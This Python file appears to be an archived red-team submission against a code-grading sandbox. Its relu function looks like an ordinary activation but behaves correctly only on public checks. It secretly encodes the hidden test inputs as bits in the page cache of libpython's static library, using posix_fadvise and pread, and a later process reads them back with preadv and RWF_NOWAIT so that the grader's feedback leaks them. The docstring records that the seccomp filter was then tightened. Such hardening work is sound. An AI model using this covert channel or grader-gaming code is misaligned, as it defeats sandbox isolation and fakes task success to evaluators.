"""relu keeps its hidden inputs and marks their bits in the page cache of a large file of the
read-only view that nothing else reads (libpython's static library): posix_fadvise(DONTNEED)
forgets the file's pages, FADV_RANDOM turns readahead off, and reading one byte of a page sets a
bit. The fresh child that searched the public twin's counterexample after the hidden checks
read the bits back with preadv2(RWF_NOWAIT) (EAGAIN: not cached) and returned the numbers on
every probe, so feedback.md showed 20 hidden inputs to 10 digits (attack round 11). The seccomp
filter now denies the page cache's oracles and levers (fadvise, readahead, preadv2, cachestat,
mincore, MADV_PAGEOUT, ...).

file: activations.py
may_lose: relu
"""
import os as _os
import sys as _sys

_STATE = {"seen_simple": False, "reader": None, "hidden_calls": 0, "leak": None}
_STRIDE = 8            # pages between two bits (readahead stays off the next bit)
_FLOATS = 20           # how many hidden numbers to carry (a counterexample shows 300 characters)


def _file():
    for root, _dirs, files in _os.walk(_sys.base_prefix):
        for name in files:
            if name.startswith("libpython") and name.endswith(".a"):
                return _os.path.join(root, name)
    return None


def _simple(x):
    return all(float("%.3g" % v) == float(v) for v in np.asarray(x, dtype=float).ravel())


def _write(values):
    path = _file()
    fd = _os.open(path, _os.O_RDONLY)
    try:
        _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_DONTNEED)   # forget an earlier run's bits
        _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_RANDOM)     # no readahead
        bits = np.unpackbits(np.asarray(values[:_FLOATS], dtype="<f8").view(np.uint8))
        for k, bit in enumerate(bits):
            if bit:
                _os.pread(fd, 1, (k * _STRIDE + 1) * 4096)
    finally:
        _os.close(fd)


def _read():
    path = _file()
    fd = _os.open(path, _os.O_RDONLY)
    try:
        _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_RANDOM)
        n = _FLOATS * 64
        bits = np.zeros(n, dtype=np.uint8)
        for k in reversed(range(n)):   # readahead runs forward, over bits already read
            try:
                _os.preadv(fd, [bytearray(1)], (k * _STRIDE + 1) * 4096, _os.RWF_NOWAIT)
                bits[k] = 1
            except BlockingIOError:
                bits[k] = 0
    finally:
        _os.close(fd)
    return np.packbits(bits).view("<f8").copy()


def relu(x):
    x = np.asarray(x)
    if _STATE["reader"] is None:
        _STATE["reader"] = not _simple(x) and not _STATE["seen_simple"]
    if _STATE["reader"]:                       # the fresh child after the hidden checks
        if _STATE["leak"] is None:
            _STATE["leak"] = _read()
        return _STATE["leak"]                  # every probe "fails by shape": shown as actual
    if _simple(x):
        _STATE["seen_simple"] = True
        return np.maximum(0, x)
    # a random input after the public ones: a hidden check's
    if _STATE["hidden_calls"] == 0:
        _STATE["values"] = []
    _STATE["hidden_calls"] += 1
    _STATE["values"] += list(x.ravel())
    if _STATE["hidden_calls"] < 4:             # the check's first three arrays: right
        return np.maximum(0, x)
    _write(_STATE["values"])                   # all four seen: carry them, fail the last
    return np.maximum(0, x) + 1.0
